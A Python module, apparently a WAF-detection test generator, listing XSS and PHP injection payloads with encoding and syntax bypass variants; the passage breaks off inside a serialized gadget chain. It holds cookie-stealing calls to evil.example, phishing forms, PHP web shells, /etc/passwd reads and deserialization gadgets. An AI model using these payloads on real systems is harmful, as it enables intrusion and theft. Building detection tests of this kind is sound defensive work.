"""Blind set "hundredseventysecond": cross-site scripting and PHP injection written the way a researcher hunting for a
bypass of a regex-and-libinjection WAF writes them, with benign requests that carry the same syntax innocently.

The angle: WAF-bypass research, recalled from memory. Each family's working attack is rewritten in the syntax
variants and encodings its target still accepts: comments and unusual whitespace between tokens (tab, newline, form
feed, `/**/`), case mixing, keywords built from pieces (string concatenation, strrev/str_rot13/hex2bin/chr,
XOR-built names), alternative functions and operators (call_user_func, array_map, ReflectionFunction, backticks;
tagged templates, Function, import()), escape sequences the target decodes (JSON \\u escapes inside a JSON body,
HTML character references where the browser decodes them, JavaScript \\x/\\u escapes, PHP "\\x73" and octal string
escapes, serialized `S:` hex escapes, CSS escapes), Unicode fullwidth and compatibility forms where the backend
applies NFKC, and transport tricks (a whole JSON document as the body, a raw form-typed body, the payload as a
parameter name, multipart fields and upload file names, RFC 5987 `filename*=`, php-cgi argument query strings).
Every payload is still a working attack on its named target once the target decodes it; each list carries a comment
naming the family and the target (browser engine, AngularJS/Vue version, PHP version and SAPI, framework gadget).

Families (category xss; one sub-family per detection title):
  libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction), javascript-uri,
  html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression, template-literal-dom-sink,
  ie-filter-style, encoded-entity, angular-vue-client-template
Families (category php):
  php-open-tag, php-function-call (system/exec/passthru/shell_exec/popen/proc_open/assert/eval/create_function/
  preg_replace-e), php-variable-functions, php-wrappers (php://, data://, phar://, expect://, zip://, glob://),
  php-object-injection (serialized O:/a:/C:), php-config-directives (auto_prepend_file, allow_url_include, php-cgi
  -d arguments, .user.ini/.htaccess), superglobals, php-file-upload (.php/.phtml/.phar names),
  php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a
multipart field, the URL path; whole JSON documents with \\u escapes as the JSON body of /api/users; upload file
names in the admin import), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that
are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi; php-cgi argument strings
to /index.php, /cgi-bin/php-cgi and /php-cgi/php-cgi.exe) under arbitrary parameter names, as a query string, form
body, JSON body, XML body, a raw form-typed body, a multipart upload, or in User-Agent, Referer, a custom header or a
cookie. php-cgi argument strings and superglobal-overwriting `name=value` pairs go unquoted (raw); a payload with
control characters or non-ASCII never goes into a header, cookie or the path, and a raw body carries only payloads a
form decoder would not alter. Uploaded PHP file names carry a GIF-prefixed web shell (.htaccess and .user.ini their
directive).

Authorship and independence: written for this repository from general knowledge of each attack family, WAF-bypass
research as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or public
payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Generator, Iterator
from typing import Any

from .blind_placements import BlindSet, Record, request
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredseventysecond"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # the payload is the whole JSON document
UP = ("multipart-filename", "rs-multipart-filename")   # the payload is an upload's file name
PN = ("param-name", "rs-param-name")   # the payload is a parameter name
CGI = ("query", "rs-query")   # the payload is the whole query string (php-cgi arguments, parameter pollution)
KV = ("form", "rs-raw-body")   # the payload is a whole form body

# ================================================================================================================
# XSS
# ================================================================================================================
# libinjection-xss (browser: Chrome/Firefox/Safari HTML5 tokenizer): short tag-and-handler streams, the separators
# and casing the tokenizer accepts between the tag name, the attributes and the handler
LIBINJECTION: list[Entry] = [
    "<svg/onload=alert(1)>",
    "<iMg sRc=x OnErRoR=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<svg><script>alert&#40;1&#41;</script>",
    '"><svg onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<x contenteditable autofocus onfocus=alert(1)>",
    "<style onload=alert(1)></style>",
    "</title><svg onload=alert(1)>",
    "</textarea><img src=x onerror=alert(1)>",
    "<svg onload=alert&#40;1&#41;>",
    # unclosed tag: the page's next '>' closes it
    "<img src=x onerror=alert(1)//",
    "<a href=javascript:alert(1)>click",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    # the tag as a parameter name (reflected query-string keys)
    ("<svg/onload=alert(document.domain)>",) + PN,
]

# script-tag (browser): script elements with split keywords, escapes and alternative call forms
SCRIPT: list[Entry] = [
    "<script>alert(document.domain)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,alert(1)></script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>top[/al/.source+/ert/.source](1)</script>",
    r"<script>\u0061lert(1)</script>",
    r"<script>eval('\x61lert(1)')</script>",
    r"<script>setTimeout`alert\x281\x29`</script>",
    "<script>[].constructor.constructor('alert(1)')()</script>",
    "<script>Function('ale'+'rt(1)')()</script>",
    "<script>throw onerror=alert,1</script>",
    "<script>fetch('//evil.example/?c='+document.cookie)</script>",
    '"</script><script>alert(1)</script>',
    "<script>document.write(String.fromCharCode(60,105,109,103,32,115,114,99,61,120,32,111,110,101,114,114,111,"
    "114,61,97,108,101,114,116,40,49,41,62))</script>",
    "<script>import('//evil.example/x.js')</script>",
    "<script type=module>import'//evil.example/x.js'</script>",
    "<script>\nalert/**/(1)\n</script>",
    ("<script>location='//evil.example/?'+document.cookie</script>",) + PN,
]

# event-handler (browser): handlers that fire without a click, and call forms that avoid "alert(" adjacency
EVENT: list[Entry] = [
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x dur=1s>",
    '<img src=x onerror="window.onerror=alert;throw 1">',
    "<img src=x onerror=eval(atob(this.id)) id=YWxlcnQoMSk=>",
    "<div onpointerover=alert(1) style=position:fixed;inset:0>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<iframe onload=alert(1)>",
    "<svg onload\n=\nalert(1)>",
    r"<img src=x onerror=top['al\x65rt'](1)>",
    r"<img src=x onerror=\u0061lert(1)>",
    "<img src=1 onerror=import('//evil.example/x.js')>",
    "<img src=x onerror=(alert)(1)>",
    # the parser turns <image> into <img>
    "<image src=x onerror=alert(1)>",
    "<img src=x onerror=location='javas'+'cript:alert(1)'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<input onblur=alert(1) autofocus><input autofocus>",
    "<svg onload=setTimeout('al'+'ert(1)')>",
    "<svg\nonload=fetch('//evil.example/?'+document.cookie)>",
    # the upload's file name is listed unescaped in the import report
    ("<img src=x onerror=alert(1)>.png",) + UP,
]

# attribute-vector (browser): breaking out of a quoted attribute, and the src/href/style/formaction/action attributes
# that run script
ATTRIBUTE: list[Entry] = [
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"onfocus="alert(1)"autofocus="',
    '" onpointerenter="alert(1)',
    '" tabindex=1 autofocus onfocus="alert(1)',
    '" style="position:fixed;inset:0;z-index:9999" onmouseover="alert(1)',
    '" accesskey="x" onclick="alert(1)',
    # an <img src="..."> value: close the quote, add the handler
    'x" onerror="alert(1)',
    '1" onerror=alert(1) "',
    '" src=x onerror="alert(1)',
    '" href="javascript:alert(1)" x="',
    "<form><button formaction=javascript:alert(1)>Search</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>Go</button>",
    "<form><input type=submit formaction=javascript:alert(1) value=Save>",
    "<form action=javascript:alert(1)><input type=submit value=Continue>",
    "<button form=login formaction=//evil.example/collect>Sign in</button>",
    '<a style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover=alert(1)>',
    '<div style="width:100vw;height:100vh;position:fixed;top:0;left:0" onmousemove="alert(1)"></div>',
    "' onmouseover=alert(1) style='display:block;width:100vw;height:100vh",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    ('{"bio":"\\" autofocus onfocus=\\"alert(document.domain)","name":"Ann"}',) + JB,
]

# javascript-uri (browser: href/src/action values and stored "website" links): the scheme split by the tab and
# newline the URL parser removes, leading control characters it strips, percent-escapes the javascript: URL decodes,
# and character references in the attribute
JSURI: list[Entry] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript:%61lert(1)",
    "javascript:alert%281%29",
    "javascript://%0aalert(1)",
    "javascript://evil.example/%0Aalert(document.domain)",
    "javascript:fetch('//evil.example/?'+document.cookie)",
    "javascript:eval(atob('YWxlcnQoMSk='))",
    "javascript:'<img src=x onerror=alert(1)>'",
    "javascript:alert(1)//https://app.example.com",
    "javascript:/*https://app.example.com*/alert(1)",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="javas&NewLine;cript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<iframe src="javascript:alert(parent.document.domain)">',
    # the profile's website and avatar, the scheme spelled with JSON escapes the API decodes
    (r'{"name":"Ann","website":"\u006a\u0061vascript:alert(document.cookie)"}',) + JB,
    (r'{"name":"Ann","avatar_url":"javascript\u003aalert(1)"}',) + JB,
]

# html-injection (browser): iframe/object/embed/base/meta/link/form elements that load attacker content, redirect,
# phish for credentials or leak the rest of the page
HTMLINJ: list[Entry] = [
    "<iframe src=//evil.example/phish width=100% height=600 frameborder=0>",
    '<iframe srcdoc="<script>parent.alert(document.domain)</script>">',
    '<iframe src="data:text/html,<script>alert(1)</script>">',
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/login">',
    '<META HTTP-EQUIV=REFRESH CONTENT="1;URL=//evil.example/">',
    "<link rel=stylesheet href=//evil.example/steal.css>",
    '<form action=//evil.example/collect method=post><input name=password type=password placeholder="Confirm '
    'password"><input type=submit value=Confirm></form>',
    "<a href=//evil.example/ style=position:fixed;inset:0;z-index:99999;background:#fff>Session expired. Log in "
    "again.</a>",
    # scripting enabled: noscript is raw text, the title attribute's </noscript> closes it
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<frameset onload=alert(1)>",
    # dangling markup: the rest of the page up to the next quote goes to the attacker's log
    "<img src='//evil.example/log?html=",
    "<object type=text/html data=//evil.example/phish.html width=100% height=100%></object>",
    "<iframe/src=//evil.example/x>",
    "<IFRAME SRC=//evil.example/x></IFRAME>",
    '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    "<a href=//evil.example/invoice.pdf.exe download=invoice.pdf>Download your invoice</a>",
    ("<iframe src=//evil.example/x>",) + PN,
    (r'{"bio":"\u003ciframe src=//evil.example/phish width=100% height=600\u003e\u003c/iframe\u003e"}',) + JB,
]

# svg-mathml (browser): SVG and MathML foreign content (script with decoded entities, SMIL events and href
# animation, integration points where HTML tags break out), and an XHTML-namespaced script in an XML document
SVG: list[Entry] = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:,alert(1)"></script></svg>',
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><rect width=100 height=100 /></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><image href=1 onerror=alert(1)>",
    "<svg><animatetransform onbegin=alert(1) attributename=transform>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><script>a&#x6c;ert&#x28;1&#x29;</script></svg>",
    "<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>",
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    ("<svg onload=alert(1)>.svg",) + UP,
    (r'{"bio":"\u003csvg\u003e\u003cscript\u003ealert(1)\u003c/script\u003e\u003c/svg\u003e"}',) + JB,
]

# css-expression: Internet Explorer 5-7 (and IE8+ in IE7 document mode) CSS expression()/behavior/url(javascript:),
# Firefox 3 -moz-binding, and CSS injection that leaks page data in today's browsers
CSS: list[Entry] = [
    '<div style="width:expression(alert(1))">',
    '<div style="xss:expr/**/ession(alert(1))">',
    r'<div style="x:\65xpression(alert(1))">',
    r'<div style="x:expre\ssion(alert(1))">',
    r'<div style="x:e\78pression(alert(1))">',
    '<div style="x:\uff25\uff38\uff30\uff32\uff25\uff33\uff33\uff29\uff2f\uff2e(alert(1))">',
    '<div style="x:expression&#40;alert(1)&#41;">',
    '<p style="x:/**/expression(alert(1))">',
    '<div style="width:expression(window.x?0:(alert(1),window.x=1))">',
    "<style>*{x:expression(alert(1))}</style>",
    "color:red;x:expression(alert(1))",
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background-image:url(javascript:alert(1))">',
    '<div style="behavior:url(//evil.example/x.htc)">',
    "<style>*{-moz-binding:url(//evil.example/xss.xml#x)}</style>",
    # current browsers: attribute-selector and unicode-range exfiltration, rule break-out
    "<style>input[name=csrf_token][value^=a]{background:url(//evil.example/?a)}</style>",
    "<style>@import url(//evil.example/steal.css);</style>",
    "<style>@font-face{font-family:leak;src:url(//evil.example/?A);unicode-range:U+0041}#secret{font-family:leak}"
    "</style>",
    "}body{background:url(//evil.example/?css-injection)}",
    "</style><script>alert(1)</script>",
    '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
]

# template-literal-dom-sink (browser JavaScript engine): breaking out of JS strings and template literals the page
# reflects into, JSONP callbacks, hash-to-innerHTML sinks
DOMSINK: list[Entry] = [
    "${alert(1)}",
    "`-alert(1)-`",
    "${constructor.constructor('alert(1)')()}",
    "${eval(atob('YWxlcnQoMSk='))}",
    "';alert(1)//",
    '"-alert(1)-"',
    "'-alert(1)-'",
    "x'+alert(1)+'",
    # the app escapes the quote but not the backslash
    r"\';alert(1)//",
    r'\");alert(1)//',
    "');alert(1);('",
    '"};alert(1);//',
    "1;alert(1)//",
    "';document.location='//evil.example/?'+document.cookie;//",
    "</ScRiPt><img src=x onerror=alert(1)>",
    # jQuery < 1.9 $(location.hash) and hash-to-innerHTML widgets
    "#<img src=x onerror=alert(1)>",
    # JSONP callback
    "alert(document.domain)//",
    # iframe.src / window.open sinks
    "data:text/html,<script>alert(1)</script>",
    # the JavaScript polyglot (any of attribute, script, comment, textarea, title, style contexts)
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    (r'{"name":"\u0027-alert(1)-\u0027"}',) + JB,
    (r'{"name":"\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e"}',) + JB,
]

# ie-filter-style: Internet Explorer 6-10 only parsing (javascript: in img/bgsound/table, VBScript, data islands,
# conditional comments, HTML+TIME, backtick-quoted attributes, NUL inside tag names, UTF-7 and US-ASCII pages)
IE: list[Entry] = [
    '<img src="javascript:alert(1)">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<table background="javascript:alert(1)">',
    '<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#x datafld=c '
    'dataformatas=html></span>',
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<img src=x language=vbscript onerror=msgbox(1)>",
    "<script type=text/vbscript>MsgBox 1</script>",
    '<iframe src="vbscript:msgbox(1)"></iframe>',
    '<div style="behavior:url(#default#time2)" onbegin="alert(1)">',
    "<?xml:namespace prefix=t ns=urn:schemas-microsoft-com:time><?import namespace=t implementation=#default#time2>"
    "<t:set attributeName=innerHTML to=XSS&lt;img src=x onerror=alert(1)&gt;>",
    "<meta http-equiv=X-UA-Compatible content=IE=7><div style=x:expression(alert(1))>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=`x`onerror=alert(1)>",
    r"<style>@im\port'\ja\vasc\ript:alert(1)';</style>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # US-ASCII page: IE drops the top bit, 0xBC/0xBE become < and >
    ("\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe",) + CGI,
]

# encoded-entity (browser character references; backends that html.unescape(), URL-decode a second time, decode
# JSON \u escapes, or NFKC-normalise fullwidth and compatibility characters; JavaScript string sinks; IIS %u)
ENCODED: list[Entry] = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<img src=x onerror=&#0000097;lert(1)>",
    "<img src=x onerror=&#97&#108&#101&#114&#116(1)>",
    '<a href="javascript:&#x61;lert(1)">x</a>',
    '<img src=x onerror="&#x5c;u0061lert(1)">',
    '<a href="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a&#x61&#x6c&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;'
    '&#41;">x</a>',
    '<iframe srcdoc="&#60;img src=x onerror=alert(1)&#62;">',
    # NFKC: fullwidth < > and letters, small-form < >, long s
    "\uff1cimg src=x onerror=alert(1)\uff1e",
    "\uff1c\uff53\uff43\uff52\uff49\uff50\uff54\uff1ealert(1)\uff1c/\uff53\uff43\uff52\uff49\uff50\uff54\uff1e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "<\u017fvg onload=alert(1)>",
    # JavaScript string sinks (innerHTML = '...')
    r"\x3cimg src=x onerror=alert(1)\x3e",
    r"\u003csvg onload=alert(1)\u003e",
    # IIS / classic ASP %u decoding
    "%u003cimg%u0020src%u003dx%u0020onerror%u003dalert(1)%u003e",
    (r'{"bio":"\u003cimg src=x onerror=alert(1)\u003e"}',) + JB,
    (r'{"name":"\u003c\u0073\u0063\u0072\u0069\u0070\u0074\u003ealert(1)\u003c/\u0073\u0063\u0072\u0069\u0070\u0074'
     r'\u003e"}',) + JB,
    (r'{"comment":"\u003csvg\u0020onload\u003dalert(document.domain)\u003e"}',) + JB,
]

# angular-vue-client-template: AngularJS 1.x expressions (sandbox escapes for 1.2-1.5, plain constructor calls for
# 1.6+), Vue 2/3 in-DOM templates, Alpine.js directives, rendered by the client-side framework in the page
TEMPLATE: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{$on.constructor('ale'+'rt(1)')()}}",
    "{{constructor['constr'+'uctor']('alert(1)')()}}",
    r"{{[].map.constructor('\u0061lert(1)')()}}",
    "{{constructor.constructor('fetch(\"//evil.example/?\"+document.cookie)')()}}",
    "<div ng-app>{{constructor.constructor('alert(document.domain)')()}}</div>",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\">",
    # AngularJS 1.4.x and 1.5.x sandbox escapes, 1.3.x sort/toString
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    '{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","alert(1)"].sort('
    "toString.constructor)}}",
    # AngularJS under CSP: the event object reaches window
    "<input autofocus ng-focus=\"$event.composedPath()|orderBy:'(z=alert)(1)'\">",
    # Vue 2 and Vue 3
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$emit.constructor`alert(1)`()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div v-if=\"_c.constructor('alert(1)')()\"></div>",
    "<x @click=$event.view.alert(1)>click me</x>",
    '<div x-data x-init="alert(document.domain)"></div>',
    (r'{"name":"\u007b\u007bconstructor.constructor(\u0027alert(1)\u0027)()\u007d\u007d"}',) + JB,
]

# ================================================================================================================
# PHP
# ================================================================================================================
# php-open-tag (PHP interpreter: code that lands in a file PHP runs, an upload, a poisoned log or session file, a
# cached template): every open-tag form, PHP's case-insensitive tags and names, whitespace and comments between tokens
OPEN_TAG: list[Entry] = [
    "<?php system($_GET['c']); ?>",
    "<?PHP SyStEm($_GET['c']);?>",
    "<?php\npassthru($_REQUEST[0]);",
    "<?php\tsystem($_GET[0]);",
    "<?php\r\nsystem($_GET['c']);",
    "<?php /**/system/**/($_GET[0]);",
    '<?pHp SYSTEM/**/("\\x69\\x64");?>',
    "<?=`$_GET[0]`?>",
    "<?=system($_GET[0])?>",
    "<?=include$_GET[0]?>",
    "<?=phpinfo()?>",
    # short_open_tag=On; PHP 5 only: the script language tag and asp_tags
    "<? system($_GET['c']); ?>",
    "<script language=\"php\">system($_GET['c']);</script>",
    "<% system($_GET['c']); %>",
    # the one-line web shells
    "<?php eval($_POST[1]);?>",
    "<?php @eval($_POST['pass']);?>",
    "<?php ($_=@$_GET[0]).@$_($_GET[1]);?>",
    "<?php $c=$_GET['c'];echo`$c`;?>",
    "<?php echo `{$_SERVER['HTTP_X_C']}`;?>",
    "<?php echo shell_exec($_GET['cmd']); ?>",
    "<?php system(base64_decode('aWQ='));",
    "<?php include $_GET['f'];?>",
    "<?php readfile('/etc/passwd');?>",
    "<?php phpinfo();?>",
    "<?php file_put_contents('s.php','<?php system($_GET[0]);');",
    # image polyglot that passes a getimagesize() check
    "GIF89a;<?php system($_GET['c']); ?>",
    (r'{"template":"\u003c?php system($_GET[0]); ?\u003e","name":"invoice"}',) + JB,
]

# php-function-call (PHP eval()/assert()/create_function() sinks and eval'd double-quoted strings, PHP 5-8): the
# command functions, callbacks that call them, and the names split by comments, whitespace, namespaces, escapes
FUNCTION_CALL: list[Entry] = [
    "system('id');",
    "exec('id',$o);print_r($o);",
    "passthru('cat /etc/passwd');",
    "echo shell_exec('id');",
    "echo fread(popen('id','r'),4096);",
    "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);",
    "pcntl_exec('/bin/sh',['-c','id']);",
    "echo `id`;",
    "eval('system(\"id\");');",
    # PHP 5 and 7: assert() of a string; preg_replace /e (PHP < 7); mb_ereg_replace 'e' option (PHP < 7.1)
    "assert('system(\"id\")');",
    "preg_replace('/.*/e','system(\"id\")','x');",
    "mb_ereg_replace('.*','system(\"id\")','x','e');",
    # create_function('$a','return '.$input.';') body injection (PHP < 8)
    "1;}system('id');//",
    # breaking out of the string the sink builds
    "';system('id');//",
    '".system(\'id\')."',
    # eval'd double-quoted strings
    "${system('id')}",
    "{${system('id')}}",
    # callbacks that reach the command functions
    "array_map('system',['id']);",
    "call_user_func('system','id');",
    "array_filter(['id'],'system');",
    "register_shutdown_function('system','id');",
    "(new ReflectionFunction('passthru'))->invokeArgs(['id']);",
    "system/**/('id');",
    "\\system('id');",
    "system\t(\t'id'\t);",
    'system("\\x69\\x64");',
    'system("\\151\\144");',
    'system("\\u{69}\\u{64}");',
]

# php-variable-functions (PHP 5.4-8, an eval() sink or an uploaded shell): the function name built from pieces at run
# time and called through a variable, a string expression or a superglobal
VARIABLE_FUNCTIONS: list[Entry] = [
    "$f='sys'.'tem';$f('id');",
    "$a='s'.'y'.'s'.'t'.'e'.'m';$a('cat /etc/passwd');",
    "$f='sy'.\"stem\";@$f(\"whoami\");",
    "$f='pass'.'thru';$f($_GET[1]);",
    "('sys'.'tem')('id');",
    "'system'('id');",
    "$_GET['f']($_GET['c']);",
    "$_REQUEST[0]($_REQUEST[1]);",
    "$f=strrev('metsys');$f('id');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$f=base64_decode('c3lzdGVt');$f('id');",
    "$f=hex2bin('73797374656d');$f('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    '$f="\\x73\\x79\\x73\\x74\\x65\\x6d";$f(\'id\');',
    '$f="\\163\\171\\163\\164\\145\\155";$f(\'id\');',
    "$f=implode('',['sy','st','em']);$f('id');",
    "$f=str_replace('x','','sxyxsxtxexm');$f('id');",
    "$f=substr('xxsystemxx',2,6);$f('id');",
    "$f=strtr('5y5t3m',['5'=>'s','3'=>'e']);$f('id');",
    "$f=array_values(preg_grep('/^sys.em$/',get_defined_functions()['internal']))[0];$f('id');",
    "(function(){return 'sys'.'tem';})()('id');",
    "$f=fn()=>'system';$f()('id');",
    # PHP 5/7 global scope: "_GET" from XOR of non-alphanumerics, then $_GET['_']($_GET['__'])
    '$_="`{{{"^"?<>/";${$_}[_](${$_}[__]);',
    "${'_'.'GET'}['f'](${'_'.'GET'}['c']);",
    '${"_GET"}[0](${"_GET"}[1]);',
    "$x='_GET';${$x}['f'](${$x}['c']);",
    "array_map($_GET['f'],[$_GET['c']]);",
    "call_user_func($_GET['f'],$_GET['c']);",
]

# php-wrappers (PHP include/require/file_get_contents/fopen with a user path): php://filter source disclosure (case
# and filter-name percent-escapes PHP decodes), data: code (allow_url_include), phar:// metadata deserialization,
# expect:// (the expect extension), zip:// and compress.zlib://, glob:// listing
WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=string.rot13/resource=config.php",
    "PHP://FILTER/convert.base64-encode/resource=config.php",
    "pHp://FilTer/convert.base64-encode/resource=../config.php",
    "php://filter/%63onvert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode|string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16le/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.quoted-printable-encode/resource=config.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/read=convert.base64-encode/resource=file:///etc/passwd",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "data:text/plain,<?php system($_GET['c']);?>",
    "data://text/plain,<?php phpinfo();?>",
    "phar://./uploads/avatar.jpg",
    "phar:///var/www/html/uploads/x.gif/test.txt",
    "PHAR://uploads/avatar.gif/x",
    "expect://id",
    "expect://whoami",
    "zip://uploads/shell.zip#shell.php",
    "zip:///var/www/html/uploads/avatar.jpg#s.php",
    "compress.zlib:///etc/passwd",
    "glob:///var/www/html/*.php",
    "file:///etc/passwd",
    (r'{"page":"php\u003a//filter/convert.base64-encode/resource=index.php"}',) + JB,
    (r'{"file":"\u0070\u0068\u0070://filter/read=string.rot13/resource=config.php"}',) + JB,
]

# php-object-injection (PHP unserialize() of a cookie, a form field or a stored preference): framework gadget chains
# (Laravel/Faker, Yii2 CVE-2020-15148, Joomla CVE-2015-8562, Monolog, Drupal's Guzzle, Guzzle FileCookieJar,
# WordPress Requests, Symfony file delete), written with protected/private NUL names, with `S:` hex escapes instead of
# NUL bytes, lower-cased class names (PHP class lookup ignores case), wrapped in ArrayObject's C: format, the `O:+`
# length (PHP 5), fast-destruct arrays, base64 for base64-decoding cookies, and JSON \u0000 escapes
LARAVEL = (
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\x00*\x00events";O:15:"Faker\\Generator"'
    ':1:{s:13:"\x00*\x00formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\x00*\x00event";s:2:"id";}')
LARAVEL_S = (
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{S:9:"\\00*\\00events";O:15:"Faker\\Generator"'
    ':1:{S:13:"\\00*\\00formatters";a:1:{s:8:"dispatch";s:6:"system";}}S:8:"\\00*\\00event";s:2:"id";}')
YII = (
    'O:23:"yii\\db\\BatchQueryResult":1:{s:36:"\x00yii\\db\\BatchQueryResult\x00_dataReader";O:15:"Fake'
